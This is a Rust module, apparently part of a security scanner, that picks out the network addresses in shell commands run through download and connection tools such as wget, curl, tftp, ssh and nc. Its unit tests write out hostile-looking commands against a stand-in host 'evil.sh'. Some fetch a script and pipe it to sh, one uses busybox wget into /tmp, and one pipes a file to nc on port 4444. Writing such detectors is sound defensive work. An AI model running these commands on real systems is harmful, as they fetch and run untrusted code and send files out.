//! Where a command names what shall be fetched or called: `wget -q HERE`, `tftp -g -r x HERE`, `ssh root@HERE`.
//!
//! A word in such a place is an address, however much it looks like a file (`wget evil.sh/x`), and needs no scheme to be a URL.
use super::needs::{Needs, Seen};
use super::{Context, Text};

/// How a program reads its words.
struct Tool {
    name: &'static [u8],
    /// Letters of options that take the next word as their value.
    values: &'static [u8],
    /// How many words are addresses: all that are no option, or only the first.
    targets_max: usize,
}

const TOOLS: &[Tool] = &[
    Tool { name: b"wget", values: b"OoPTtUaielwQARDIXB", targets_max: usize::MAX },
    Tool { name: b"curl", values: b"odHATFxuebcmXKEwyYrztQCDP", targets_max: usize::MAX },
    Tool { name: b"tftp", values: b"lrbcm", targets_max: 1 },
    Tool { name: b"ftpget", values: b"upP", targets_max: 1 },
    Tool { name: b"ftp", values: b"oPsT", targets_max: 1 },
    Tool { name: b"axel", values: b"osnUHN", targets_max: usize::MAX },
    Tool { name: b"fetch", values: b"oTwBSN", targets_max: usize::MAX },
    Tool { name: b"aria2c", values: b"doisxj", targets_max: usize::MAX },
    Tool { name: b"lwp-download", values: b"", targets_max: 1 },
    Tool { name: b"lynx", values: b"", targets_max: 1 },
    Tool { name: b"ssh", values: b"pilLRDoFJWbBcEeImOQSw", targets_max: 1 },
    Tool { name: b"telnet", values: b"bensXl", targets_max: 1 },
    Tool { name: b"nc", values: b"eciopqswXxg", targets_max: 1 },
    Tool { name: b"ncat", values: b"eciopqswxg", targets_max: 1 },
    Tool { name: b"ping", values: b"cistwWIlmMpQS", targets_max: 1 },
    Tool { name: b"nslookup", values: b"", targets_max: 2 },
];

/// Long options (of wget and curl) that take the next word as their value.
const LONG_VALUES: &[&[u8]] = &[
    b"--output-document",
    b"--output",
    b"--directory-prefix",
    b"--user-agent",
    b"--header",
    b"--tries",
    b"--timeout",
    b"--data",
    b"--request",
    b"--user",
    b"--password",
    b"--max-time",
    b"--connect-timeout",
    b"--retry",
    b"--dir",
    b"--out",
];

/// Offsets of the addresses in a command, ascending.
pub(super) fn targets(text: &Text<'_>, seen: &Seen) -> Vec<u32> {
    const NEEDS: Needs = Needs::NOTHING.one_of(b".").one_of(b" \t");
    let mut targets = Vec::new();
    if text.context != Context::Command || !seen.suffices(&NEEDS) {
        return targets;
    }
    let bytes = text.plain.as_bytes();
    let mut tool: Option<&Tool> = None;
    let (mut left, mut takes_value) = (0, false);
    let mut at = 0;
    while at < bytes.len() {
        match bytes[at] {
            b' ' | b'\t' | b'"' | b'\'' => at += 1,
            b';' | b'|' | b'&' | b'(' | b')' | b'`' | b'\n' | b'\r' | b'{' | b'}' => {
                tool = None;
                at += 1;
            }
            b'<' | b'>' => {
                // What follows is a file.
                takes_value = true;
                at += 1;
            }
            _ => {
                let start = at;
                while at < bytes.len()
                    && !matches!(
                        bytes[at],
                        b' ' | b'\t' | b';' | b'|' | b'&' | b'(' | b')' | b'`' | b'\n' | b'\r' | b'"' | b'\'' | b'<' | b'>'
                    )
                {
                    at += 1;
                }
                let word = &bytes[start..at];
                if std::mem::take(&mut takes_value) {
                    continue;
                }
                if let Some(named) = named(word) {
                    (tool, left) = (Some(named), named.targets_max);
                } else if let Some(tool) = tool {
                    if word[0] == b'-' {
                        takes_value = LONG_VALUES.contains(&word)
                            || (word.get(1) != Some(&b'-')
                                && word[1..].iter().position(|letter| tool.values.contains(letter)) == Some(word.len() - 2)
                                && word.len() > 1);
                    } else if left > 0 {
                        // `user@host`: the host.
                        let name = memchr::memchr(b'@', word).map_or(0, |at| at + 1);
                        targets.push((start + name) as u32);
                        left -= 1;
                    }
                }
            }
        }
    }
    targets
}

fn named(word: &[u8]) -> Option<&'static Tool> {
    let name = &word[memchr::memrchr(b'/', word).map_or(0, |at| at + 1)..];
    TOOLS.iter().find(|tool| tool.name == name)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn words_that_are_addresses_are_told_from_options_values_and_files() {
        for (command, expected) in [
            ("wget evil.sh", &["evil.sh"][..]),
            ("wget -O x.sh evil.sh/a; chmod +x x.sh", &["evil.sh/a"]),
            ("wget -qO- evil.sh/a | sh b.sh", &["evil.sh/a"]),
            ("wget -qO x.sh evil.sh/a", &["evil.sh/a"]),
            ("/bin/busybox wget -c evil.sh -P /tmp", &["evil.sh"]),
            ("curl -fsSL evil.sh/x > y.sh", &["evil.sh/x"]),
            ("curl -o y.sh evil.sh/x", &["evil.sh/x"]),
            ("curl -O evil.sh/x evil.py/y", &["evil.sh/x", "evil.py/y"]),
            ("curl --output y.sh evil.sh/x", &["evil.sh/x"]),
            ("tftp -g -r a.sh evil.sh", &["evil.sh"]),
            ("tftp -g -l a.sh -r b.sh evil.sh", &["evil.sh"]),
            ("tftp evil.sh -c get a.sh", &["evil.sh"]),
            ("ftpget -v -u anonymous -p anonymous evil.sh a.sh b.sh", &["evil.sh"]),
            ("ssh -p 22 root@evil.sh ls a.sh", &["evil.sh"]),
            ("cat a.sh | nc evil.sh 4444", &["evil.sh"]),
            ("(wget evil.sh)", &["evil.sh"]),
            ("wget \"evil.sh\" 'evil.py'", &["evil.sh", "evil.py"]),
            ("sh wget.sh a.sh", &[]),
            ("wget - -", &["-"][..0]),
        ] {
            let text = Text::plain(Context::Command, command);
            let found = targets(&text, &Seen::of(command));
            let words: Vec<&str> =
                found.iter().map(|&at| command[at as usize..].split([' ', '"', '\'', ')', ';', '|', '>']).next().unwrap()).collect();
            assert_eq!(words, expected, "{command}");
        }
        assert!(targets(&Text::plain(Context::Chat, "wget evil.sh"), &Seen::of("wget evil.sh")).is_empty());
    }
}
